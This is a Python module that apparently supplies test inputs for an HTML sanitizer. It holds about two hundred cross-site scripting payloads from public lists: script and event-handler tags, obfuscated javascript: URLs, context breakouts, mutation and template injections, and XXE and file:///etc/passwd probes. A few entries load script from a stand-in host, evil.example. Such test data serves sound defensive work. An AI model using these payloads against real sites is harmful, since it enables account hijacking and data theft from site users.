"""What the public lists of cross-site scripting try, a few of each class; {X} is what would be executed."""

# ruff: noqa: E501, Q003 as the lists have them
from __future__ import annotations

SCRIPT = "alert(1)"

TAGS = (
    "<script>{X}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{X}</scr</script>ipt>",
    "<img src=x onerror={X}>", "<img src=x onerror='{X}'//", "<IMG SRC=`x` onerror=`{X}`>", "<iframe src=//evil.example>",
    "<iframe srcdoc='&lt;script&gt;{X}&lt;/script&gt;'>", "<object data=javascript:{X}>", "<embed src=javascript:{X}>",
    "<base href=javascript:/{X}//>", "<meta http-equiv=refresh content='0;url=javascript:{X}'>", "<link rel=import href=x>",
    "<form action=javascript:{X}><input type=submit>", "<isindex action=javascript:{X}>", "<button formaction=javascript:{X}>",
    "<video><source onerror={X}>", "<audio src onloadstart={X}>", "<marquee onstart={X}>", "<details open ontoggle={X}>",
    "<body onload={X}>", "<input autofocus onfocus={X}>", "<select onfocus={X} autofocus>", "<x onclick={X}>y</x>",
    "<xss style='animation-name:x' onanimationstart={X}>", "<a href=x onmouseover={X}>y</a>", "<p onclick={X}>y</p>",
    "<strong style=x:expression({X})>", "<br/onload={X}>", "<li onpointerover={X}>", "<template><script>{X}</script>",
    "<portal src=javascript:{X}>", "<frameset onload={X}>", "<applet code=x>", "<keygen autofocus onfocus={X}>",
)  # fmt: skip
URLS = (
    "javascript:{X}", "JaVaScRiPt:{X}", " javascript:{X}", "\tjavascript:{X}", "java\tscript:{X}", "java\nscript:{X}",
    "java\rscript:{X}", "java\x00script:{X}", "\x01javascript:{X}", "\x1fjavascript:{X}", "javascript\t:{X}",
    "jav&#x09;ascript:{X}", "jav&#x0A;ascript:{X}", "&#106;avascript:{X}", "&#x6A;avascript:{X}", "&#0000106avascript:{X}",
    "java&NewLine;script:{X}", "java&Tab;script:{X}", "javascript&colon;{X}", "javascript:alert&lpar;1&rpar;",
    "\u200bjavascript:{X}", "java\u00adscript:{X}", "\u2028javascript:{X}", "\ufeffjavascript:{X}", "ｊavascript:{X}",
    "javascript://https://a.example/%0a{X}", "javascript:/*https://*/{X}", "vbscript:msgbox(1)", "VBSCRIPT:x", "livescript:x",
    "data:text/html,<script>{X}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload={X}>", "blob:https://a.example/x", "file:///etc/passwd", "view-source:javascript:{X}",
    "//evil.example/x", "\\\\evil.example\\x", "/x", "x", "https:javascript:{X}", "https:///javascript:{X}", "http:",
    "https://a.example/'onmouseover='{X}", 'https://a.example/"onmouseover="{X}', 'https://a.example/" onclick={X} x="',
    "https://a.example/<script>{X}</script>", "https://a.example/<svg/onload={X}>", "https://a.example/?x=</a><img/src/onerror={X}>",
    "https://a.example/#<img/src=x/onerror={X}>", "https://a.example/`onclick={X}", "https://[::1]<svg/onload={X}>/",
    "https://a.example<svg/onload={X}>", "https://x:<svg/onload={X}>@a.example/", "mailto:a@b.example?<svg/onload={X}>",
    "mailto:javascript:{X}@x", "mailto:<svg/onload={X}>@x", "https://a.example/\x07\" onclick={X}", "feed:javascript:{X}",
    "https://a.example/]]><script>{X}</script>", "jar:https://a.example!/x", "ms-its:x", "intent://x#Intent;end", "x:y",
)  # fmt: skip
BREAKOUTS = (
    '"><script>{X}</script>', "'><img src=x onerror={X}>", "`><svg/onload={X}>", '" onmouseover="{X}', "' autofocus onfocus='{X}",
    "</a><script>{X}</script>", "</p></li></ul><svg onload={X}>", "</strong></em><img src=x onerror={X}>", "</description><x>",
    "]]><script>{X}</script><![CDATA[", "]]&gt;<script>{X}</script>", "<![CDATA[<script>{X}</script>]]>", "]]>]]>", "<![CDATA[",
    "<!--<script>{X}</script>-->", "--><script>{X}</script><!--", "--!><img src=x onerror={X}>", "<!--><svg onload={X}>-->",
    "<!---><svg onload={X}>", "<!-- --!><script>{X}</script>", "<?xml-stylesheet href='javascript:{X}'?>", "<?php {X} ?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "</title><script>{X}</script>", "</textarea><svg onload={X}>",
    "</style><img src=x onerror={X}>", "</noscript><img src=x onerror={X}>", "</xmp><img src=x onerror={X}>", "<plaintext>",
    "<", "</", "<!", "<?", "<a", "<img src=x onerror={X}", "<img src=x onerror={X} <", "<<script>{X}//<</script>", "<\x00script>{X}",
    "<\x0bscript>{X}", "<\u200bscript>{X}</script>", "<\u00adimg src=x onerror={X}>", "<\ufeffsvg onload={X}>", "< script>{X}",
    "<[1]img src=x onerror={X}>", "<[7]script>{X}</[7]script>", "a <[1]svg/onload={X}> b [2].", "<\nimg src=x onerror={X}>",
    "1:00 <script>{X}</script>", "<1:00 img src=x onerror={X}>", "– <script>{X}</script>", "“<img src=x onerror={X}>”",
)  # fmt: skip
MUTATING = (
    "<svg><p><style><img src='</style><img src=x onerror={X}>'>", "<math><mtext><table><mglyph><style><img src=x onerror={X}>",
    "<noscript><p title='</noscript><img src=x onerror={X}>'>", "<svg><style>&lt;img src=x onerror={X}&gt;</style></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={X}></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={X}>", "<p><a href='x'><p><img src=x onerror={X}></a>",
    "<svg><script>{X}</script></svg>", "<svg onload={X}>", "<svg/onload={X}>", "<svg><animate onbegin={X} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{X}'><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,x#x'/></svg>",
    "<svg><set attributeName=href to=javascript:{X}>", "<svg><foreignObject><iframe src=javascript:{X}>", "<svg><desc><![CDATA[</desc><script>{X}</script>]]>",
    "<math href='javascript:{X}'>x</math>", "<math><maction actiontype='statusline#https://a.example' xlink:href='javascript:{X}'>x",
    "<style>@import'javascript:{X}';</style>", "<style>*{{background:url(javascript:{X})}}</style>", "<div style='width:expression({X})'>",
    "<div style='-moz-binding:url(//evil.example#x)'>", "<link rel=stylesheet href=javascript:{X}>", "&lt;script&gt;{X}&lt;/script&gt;",
    "&#60;script&#62;{X}&#60;/script&#62;", "&amp;lt;script&amp;gt;{X}", "&lt;img src=x onerror={X}&gt;", "%3Cscript%3E{X}%3C/script%3E",
    "\\x3cscript\\x3e{X}", "\\u003cscript\\u003e{X}", "+ADw-script+AD4-{X}", "\u2039script\u203a{X}", "＜script＞{X}＜/script＞",
    "\u202e>tpircs<{X}", "\ud83d<script>{X}", "{{{{constructor.constructor('{X}')()}}}}", "${{{X}}}", "<%= {X} %>", "#{{{X}}}",
    "[x](javascript:{X})", "[x](<javascript:{X}>)", "![x](javascript:{X})", "[x]: javascript:{X}", "<javascript:{X}>", "[a](data:text/html,x)",
    "`<script>{X}</script>`", "[x](https://a.example 'onclick={X}')", "\x1b]8;;javascript:{X}\x07x\x1b]8;;\x07", "\x9b31m{X}", "\x85{X}",
)  # fmt: skip

PAYLOADS = tuple(
    text.replace("{X}", SCRIPT).replace("{{", "{").replace("}}", "}") for text in (*TAGS, *URLS, *BREAKOUTS, *MUTATING)
)
